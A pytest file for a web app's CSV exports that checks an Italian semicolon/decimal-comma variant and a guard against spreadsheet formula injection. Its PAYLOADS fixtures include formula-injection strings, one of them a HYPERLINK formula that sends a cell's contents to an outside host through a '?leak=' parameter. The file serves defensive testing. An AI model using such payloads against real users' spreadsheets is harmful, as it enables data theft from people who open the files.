"""CSV for Italian spreadsheets (issue 14 item 8) and the formula guard whichever separator a
spreadsheet splits on (issue 18 item 5).

Italian Excel splits a CSV on `;` and reads `1234,50` as a number: every table downloads also as
`csv-it` (`;`, decimal comma), beside the comma-separated one, and the stamps' keys follow the
reader's language. A typed text such as a shelter named `Casa Test;=1+1;` ran as a formula when
the comma-separated file was opened in Italian Excel: every part of a text that follows a
separator and begins like a formula is neutralised, in both variants, and the files are read
back by Python's csv reader with both separators."""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime
from decimal import Decimal

import pytest

from domain.programme import PROGRAMME_TIMEZONE
from tests.web.conftest import Clients, record_intake
from tests.web.test_access_matrix import A_SHELTER
from tests.web.test_every_page import get_paths
from web.kit.exports import Column, Table, to_csv

PAYLOADS = ("Casa Test;=1+1;", "Casa Test,=1+1,", "Via Roma; +39 333", "a;@SUM(A1)",
            "Rossi, -5", "x\n=1+1", "y\r\n-2", "tab\t=1", "; =1+1", '"q";=2', "=1+1",
            '=HYPERLINK("http://example.org/?leak="&A1,"Open")')
VARIANTS = {"csv": False, "csv-it": True}


def read(content: bytes, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""),
                           delimiter=delimiter))


_NUMBER = re.compile(r"-?\d+(?:[.,]\d+)?")


def formulas_in(lines: list[list[str]]) -> list[str]:
    """The cells a spreadsheet could run as a formula: those beginning (white space skipped,
    as some spreadsheets trim it) with =, +, - or @, other than numbers."""
    return [cell for line in lines for cell in line
            if cell.lstrip(" \t\r\n").startswith(("=", "+", "-", "@"))
            and not _NUMBER.fullmatch(cell.strip())]


def a_table(texts: tuple[str, ...]) -> Table:
    return Table(
        name="t", title=texts[0],
        columns=[Column("Nome"), Column("Importo", "money"), Column("Media", "decimal"),
                 Column("Casi", "int")],
        rows=[[text, Decimal("-1234.5"), 9.4, -3] for text in texts],
        as_of=datetime(2021, 3, 15, 12, tzinfo=PROGRAMME_TIMEZONE), position=7,
        filters=[("Struttura", texts[0])],
    )


@pytest.mark.parametrize("variant", VARIANTS)
@pytest.mark.parametrize("delimiter", [",", ";"])
def test_no_text_runs_as_a_formula_whichever_separator_the_file_is_split_on(
    variant: str, delimiter: str,
) -> None:
    content = to_csv(a_table(PAYLOADS), italian=VARIANTS[variant])

    lines = read(content, delimiter)

    assert formulas_in(lines) == []
    if delimiter == (";" if VARIANTS[variant] else ","):
        assert len(lines) == 4 + 1 + 1 + len(PAYLOADS)  # line breaks stay inside their cells


@pytest.mark.parametrize("variant", VARIANTS)
def test_read_with_its_own_separator_a_file_gives_back_each_text_neutralised(
    variant: str,
) -> None:
    italian = VARIANTS[variant]
    lines = read(to_csv(a_table(PAYLOADS), italian=italian), ";" if italian else ",")

    texts = [line[0] for line in lines[6:]]
    assert texts[0] == "Casa Test;'=1+1;"
    assert texts[1] == "Casa Test,'=1+1,"
    assert texts[4] == "Rossi,' -5"
    assert texts[5] == "x\n'=1+1"
    assert texts[10] == "'=1+1"
    # Nothing but the neutralising quotes was added.
    assert [text.replace("'", "") for text in texts] == [p.replace("'", "") for p in PAYLOADS]
    assert lines[0][1] == "Casa Test;'=1+1;" and lines[3][2] == "Casa Test;'=1+1;"


def test_the_italian_csv_separates_with_semicolons_and_writes_a_decimal_comma() -> None:
    table = a_table(("Casa Verde",))

    plain = to_csv(table).decode("utf-8-sig").splitlines()
    italian = to_csv(table, italian=True).decode("utf-8-sig").splitlines()

    assert plain[-1] == "Casa Verde,-1234.50,9.4,-3"
    assert italian[-1] == "Casa Verde;-1234,50;9,4;-3"
    assert italian[5] == "Nome;Importo;Media;Casi"
    assert italian[1] == "As of;2021-03-15T12:00:00+01:00"  # no translator: English keys


def test_every_export_offers_the_italian_csv_with_the_stamps_in_the_reader_s_language(
    clients: Clients,
) -> None:
    case_id = record_intake(clients, "milano")["case_id"]
    exports = [path.removesuffix(".xlsx") for path in get_paths(clients, case_id)
               if path.endswith("/export.xlsx")]
    assert len(exports) >= 12
    for path in exports:
        for viewer in (clients.coordinator("milano"), clients.ministry(), clients.auditor()):
            italian = viewer.get(f"{path}.csv-it", params={"lang": "it"})
            if italian.status_code == 403:
                continue
            assert italian.status_code == 200, (path, italian.text[:300])
            assert italian.headers["content-disposition"].endswith('-it.csv"'), path
            lines = read(italian.content, ";")
            assert [line[0] for line in lines[:3]] == [
                "Tabella", "Situazione al", "Posizione nel registro degli eventi"], path
            english = viewer.get(f"{path}.csv", params={"lang": "en"})
            assert read(english.content, ",")[0][0] == "Table", path
            plain_in_italian = viewer.get(f"{path}.csv", params={"lang": "it"})
            assert read(plain_in_italian.content, ",")[0][0] == "Tabella", path
            break
        else:
            pytest.fail(f"nobody may download {path}")


def test_a_shelter_named_like_a_formula_downloads_inert_in_both_csv_variants(
    clients: Clients,
) -> None:
    coordinator = clients.coordinator("milano")
    registered = coordinator.post("/api/v1/cities/milano/shelters",
                                  json={**A_SHELTER, "name": "Casa Test;=1+1;"})
    assert registered.status_code == 201, registered.text
    page = coordinator.get("/cities/milano/housing").text
    assert re.search(r'href="/cities/milano/housing/shelters/export\.csv-it"[^>]*>', page)

    for variant in VARIANTS:
        content = coordinator.get(f"/cities/milano/housing/shelters/export.{variant}").content
        for delimiter in (",", ";"):
            lines = read(content, delimiter)
            assert formulas_in(lines) == [], (variant, delimiter)
        own = read(content, ";" if variant == "csv-it" else ",")
        assert own[own.index([]) + 2][0] == "Casa Test;'=1+1;", variant
